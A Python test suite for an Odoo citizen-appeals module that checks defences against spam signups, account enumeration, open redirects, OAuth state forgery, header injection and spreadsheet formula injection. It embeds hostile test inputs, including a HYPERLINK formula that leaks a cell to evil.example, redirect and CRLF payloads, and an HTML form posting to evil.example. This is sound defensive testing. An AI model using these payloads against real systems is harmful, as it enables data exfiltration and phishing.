import csv
import io
import json
from unittest.mock import patch
from urllib.parse import parse_qs, urlencode, urlsplit

import openpyxl
from lxml import html

from odoo.exceptions import AccessDenied
from odoo.http import Request
from odoo.tests import HttpCase, freeze_time, tagged

from odoo.addons.citizen_appeals.models import citizen_code_try

from tests.citizen_appeals.mails import MailCase, letter
from tests.citizen_appeals.submissions import JPEG, SubmissionCase
from tests.common import NOW

PASSWORD = "Три-весёлых-фонаря"
EVIL = '=HYPERLINK("http://evil.example?"&A1;"Ответ")'


@tagged("post_install", "-at_install")
@freeze_time(NOW)
class TestAttackAccounts(SubmissionCase, HttpCase):
    """K1: letters to strangers, words of strangers, and who has an account."""

    def _open(self, path, **form):
        page = html.fromstring(self.url_open(path).text)
        [token] = set(page.xpath("//input[@name='csrf_token']/@value"))
        return self.url_open(path, {"csrf_token": token, **form})

    def _sign_up(self, login, name="Юдин Пётр Ильич"):
        self.authenticate(None, None)
        return self._open(
            "/web/signup",
            login=login,
            name=name,
            password=PASSWORD,
            confirm_password=PASSWORD,
        )

    def _find_users(self):
        domain = [("login", "like", "@victim.example")]
        return self.env["res.users"].sudo().search(domain)

    def _count_mails(self):
        return self.env["mail.mail"].sudo().search_count([])

    def test_few_accounts_come_from_one_place(self):
        """I1, K1: each welcomes an address that somebody has typed."""
        with patch.dict(citizen_code_try.LIMITS, {"signup": (2, 60)}):
            for number in range(4):
                self._sign_up(f"{number}@victim.example")
        self.assertEqual(len(self._find_users()), 2)

    def test_a_name_is_no_message_to_a_stranger(self):
        """I1, K1: the welcome says the name; what is no name is refused."""
        mails = self._count_mails()
        for name in (
            "Вам выплата: http://evil.example",
            "Вам выплата www.evil.example",
            "<b>Юдин</b>",
            "Юдин " * 50,
            "{{ object.password }}",
            "",
        ):
            answer = self._sign_up("a@victim.example", name)
            page = html.fromstring(answer.text)
            self.assertTrue(page.xpath("//*[hasclass('alert-danger')]"), name)
        self.assertFalse(self._find_users())
        self.assertEqual(self._count_mails(), mails)
        self._sign_up("a@victim.example", "Юдин\u202e И.И.")
        self.assertEqual(self._find_users().name, "Юдин И.И.")

    def _ask_password(self, login):
        page = html.fromstring(self._open("/web/reset_password", login=login).text)
        return [
            " ".join(node.text_content().split())
            for node in page.xpath("//*[hasclass('alert')]")
        ]

    def test_nobody_learns_who_has_an_account(self):
        """K1: one answer for an account, none, and what is no address."""
        answers = [
            self._ask_password(login)
            for login in (self.citizen.login, "nobody@victim.example", "x")
        ]
        self.assertTrue(answers[0])
        self.assertEqual(answers, [answers[0]] * 3)
        for path in ("/web/signup", "/web/reset_password"):
            answer = self.url_open(
                f"{path}?signup_email={self.citizen.email}", allow_redirects=False
            )
            self.assertEqual(answer.status_code, 200)

    def test_letters_with_passwords_are_few(self):
        """K1: nobody's box is filled with them, from however many places."""
        users = type(self.env["res.users"])
        with (
            patch.dict(citizen_code_try.LIMITS, {"password": (2, 60)}),
            patch.object(users, "action_reset_password") as sent,
        ):
            for number in range(4):
                place = f"192.0.2.{number}"
                with patch(
                    "odoo.addons.citizen_appeals.controllers.login.get_place",
                    return_value=place,
                ):
                    self._ask_password(self.citizen.login)
        self.assertEqual(sent.call_count, 2)

    def test_a_link_does_not_speak_for_the_body(self):
        """K1: words of an address are not shown on the page to log in."""
        words = "Позвоните-мошенникам"
        for path in ("/web/login", "/web/signup", "/web/reset_password"):
            for name in ("error", "message"):
                page = html.fromstring(self.url_open(f"{path}?{name}={words}").text)
                shown = page.xpath("//*[hasclass('alert')]//text()")
                self.assertNotIn(words, " ".join(shown), f"{path} {name}")

    def test_log_in_leads_nowhere_else(self):
        """K1: another site in the address is not gone to."""
        for target in ("//evil.example", "https://evil.example", "/\\evil.example"):
            self.authenticate(None, None)
            page = html.fromstring(self.url_open("/web/login").text)
            [token] = set(page.xpath("//input[@name='csrf_token']/@value"))
            answer = self.url_open(
                "/web/login",
                {
                    "csrf_token": token,
                    "login": "citizen-a",
                    "password": "citizen-a",
                    "redirect": target,
                },
                allow_redirects=False,
            )
            self.assertIn(answer.status_code, (302, 303), target)
            location = answer.headers["Location"].removeprefix(self.base_url())
            self.assertRegex(location, r"^/(?![/\\])", target)

    def test_nobody_is_signed_in_by_a_link(self):
        """K1: an answer of Госуслуги to another browser opens no account here."""
        provider = self.env.ref("citizen_appeals.provider_gosuslugi").sudo()
        provider.write({"enabled": True, "client_id": "north"})
        self.env.flush_all()
        users = type(self.env["res.users"])

        def come_back(state):
            with patch.object(users, "auth_oauth", side_effect=AccessDenied) as asked:
                query = urlencode({"state": state, "access_token": "x"})
                answer = self.url_open(
                    f"/auth_oauth/signin?{query}", allow_redirects=False
                )
            self.assertEqual(answer.status_code, 303)
            self.assertIn("oauth_error", answer.headers["Location"])
            return asked.call_count

        def begin():
            self.authenticate(None, None)
            page = html.fromstring(self.url_open("/web/login").text)
            links = page.xpath("//a[contains(@href, 'state=')]/@href")
            [link] = [one for one in links if "esia-gateway" in one]
            return parse_qs(urlsplit(link).query)["state"][0]

        state = begin()
        self.assertEqual(come_back(state), 1)
        other = begin()
        self.assertEqual(come_back(state), 0)
        self.assertEqual(come_back(other), 1)
        bare = {**json.loads(other), "n": None}
        for forged in (json.dumps(bare), "{}", "[]", "x", "1", ""):
            self.assertEqual(come_back(forged), 0, forged)

    def test_addresses_that_break_nothing(self):
        """K1: what cannot be an address leads nowhere, and to no error."""
        self.authenticate("citizen-a", "citizen-a")
        for path in ("/my/appeals/%00", "/appeals/answers/a%00b", "/a%00"):
            answer = self.url_open(path)
            self.assertEqual(answer.status_code, 404, path)
        answer = self.url_open(
            "/web/login?redirect=/my%0d%0aX-Evil:%20y", allow_redirects=False
        )
        self.assertLess(answer.status_code, 400)
        self.assertNotIn("X-Evil", answer.headers)


@tagged("post_install", "-at_install")
@freeze_time(NOW)
class TestAttackMails(MailCase):
    """I2, K1: the automatic reply is no means to flood a third person."""

    def _count_replies(self):
        domain = [("message_type", "=", "auto_comment")]
        return self.env["mail.mail"].sudo().search_count(domain)

    def test_endings_of_an_address_are_one_person(self):
        for number in range(4):
            self._send(
                letter(
                    From=f"Anfisa <anfisa+{number}@luzhina.example>",
                    Message_ID=f"<{number}@x>",
                )
            )
        self.assertEqual(self._count_replies(), 1)

    def test_forged_senders_without_end(self):
        """A box answers so many; the letters are all taken in."""
        with patch.dict(citizen_code_try.LIMITS, {"mail_box": (2, 60)}):
            for number in range(4):
                _mail, appeal = self._send(
                    letter(From=f"a{number}@x.example", Message_ID=f"<{number}@x>")
                )
                self.assertTrue(appeal)
        self.assertEqual(self._count_replies(), 2)


@tagged("post_install", "-at_install")
@freeze_time(NOW)
class TestAttackTables(SubmissionCase, HttpCase):
    """K1: tables of what citizens wrote hold texts, whatever they begin with."""

    def _export(self, kind, groupby=()):
        for comment in (EVIL, "@SUM(A1)", "http://evil.example", "{=1+1}"):
            self.env["citizen.feedback"]._take(
                self.company,
                {"solved": "yes", "comment": comment},
                source="questionnaire",
            )
        self.env.flush_all()
        names = ("comment", "source")
        data = {
            "model": "citizen.feedback",
            "fields": [{"name": n, "label": n, "type": "char"} for n in names],
            "ids": False,
            "domain": [],
            "groupby": list(groupby),
            "import_compat": False,
            "context": {},
        }
        user = self.users["office_head"]
        user.sudo().group_ids += self.env.ref("base.group_allow_export")
        self.authenticate(user.login, user.login)
        answer = self.url_open(
            f"/web/export/{kind}",
            {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)},
        )
        self.assertEqual(answer.status_code, 200, answer.text[:500])
        return answer.content

    def _read_cells(self, content):
        book = openpyxl.load_workbook(io.BytesIO(content))
        return [cell for row in book.active.rows for cell in row if cell.value]

    def test_xlsx(self):
        for groupby in ((), ("source",)):
            cells = self._read_cells(self._export("xlsx", groupby))
            self.assertIn(EVIL, [cell.value for cell in cells])
            self.assertEqual({cell.data_type for cell in cells}, {"s"})
            self.assertFalse([cell for cell in cells if cell.hyperlink])

    def test_csv(self):
        rows = csv.reader(io.StringIO(self._export("csv").decode()))
        cells = {cell for row in rows for cell in row}
        self.assertLessEqual({f"'{EVIL}", "'@SUM(A1)"}, cells)
        self.assertFalse([cell for cell in cells if cell.startswith(("=", "@"))])


@tagged("post_install", "-at_install")
@freeze_time(NOW)
class TestAttackDrafts(SubmissionCase, HttpCase):
    """I1, K1: a disk is not filled with drafts."""

    def test_a_closed_account_keeps_nothing(self):
        """I1, K1: its old page may lie open on somebody's computer."""
        drafts = self.env["citizen.appeal.draft"]
        token = drafts._new_token(self.citizen)
        self.assertTrue(drafts._find_by_token(token, self.company))
        self.citizen.active = False
        self.assertFalse(drafts._find_by_token(token, self.company))

    def test_receipts_are_few(self):
        """I1, K1: nobody's box is filled by who has typed his address."""
        drafts = self.env["citizen.appeal.draft"]
        user = self._create_citizen("victim+7@test.example")
        mails = self.env["mail.mail"].sudo().search_count([])
        with patch.dict(citizen_code_try.LIMITS, {"receipt": (2, 60)}):
            for number in range(4):
                token = drafts._new_token(user)
                draft = drafts._find_by_token(token, self.company)
                self.assertTrue(draft._submit(self._typed(text=f"Яма {number}")))
        self.assertEqual(self.env["mail.mail"].sudo().search_count([]), mails + 2)

    def test_files_are_kept_only_so_often(self):
        self.company.accepts_portal = True
        self.authenticate("citizen-a", "citizen-a")
        page = html.fromstring(
            self.url_open(f"/my/appeals/new?body={self.company.id}").text
        )
        form = {
            name: page.xpath(f"//input[@name='{name}']/@value")[0]
            for name in ("csrf_token", "draft_token", "company_id")
        }
        with patch.dict(citizen_code_try.LIMITS, {"files": (2, 60)}):
            for number in range(4):
                answer = self.url_open(
                    "/my/appeals/new",
                    form | {"action": "save", "text": f"Яма {number}"},
                    files=[("files", (f"{number}.jpg", JPEG + b"%d" % number))],
                )
        draft = self.env["citizen.appeal.draft"].sudo().search([])
        self.assertEqual(draft.values["text"], "Яма 3")
        self.assertEqual(len(draft._get_files()), 2)
        self.assertTrue(html.fromstring(answer.text).xpath("//*[@id='f_files_error']"))


@tagged("post_install", "-at_install")
@freeze_time(NOW)
class TestAttackFiles(SubmissionCase, HttpCase):
    """K1: nothing that a citizen sends is a page of the server."""

    PAGE = b"<title>x</title><form action=//evil.example><input></form>"

    def test_a_text_of_marks_is_shown_as_text(self):
        appeal = self._submit(files=[("a.txt", self.PAGE)])
        request = appeal.with_user(self.citizen)._take_request(
            "supplement", "Ещё", [("b.txt", self.PAGE)]
        )
        documents = appeal.document_ids | request.document_ids
        pages = documents.filtered(lambda file: file.name in ("a.txt", "b.txt"))
        self.assertEqual(len(pages), 2)
        self.assertEqual(set(pages.mapped("mimetype")), {"text/plain"})
        self.env.flush_all()
        user = self.users["registrar"]
        self.authenticate(user.login, user.login)
        for file in pages:
            answer = self.url_open(f"/web/content/citizen.document/{file.id}/content")
            self.assertEqual(answer.status_code, 200)
            self.assertEqual(
                answer.headers["Content-Type"], "text/plain; charset=utf-8"
            )
            self.assertEqual(answer.headers["X-Content-Type-Options"], "nosniff")
            self.assertEqual(answer.content, self.PAGE)
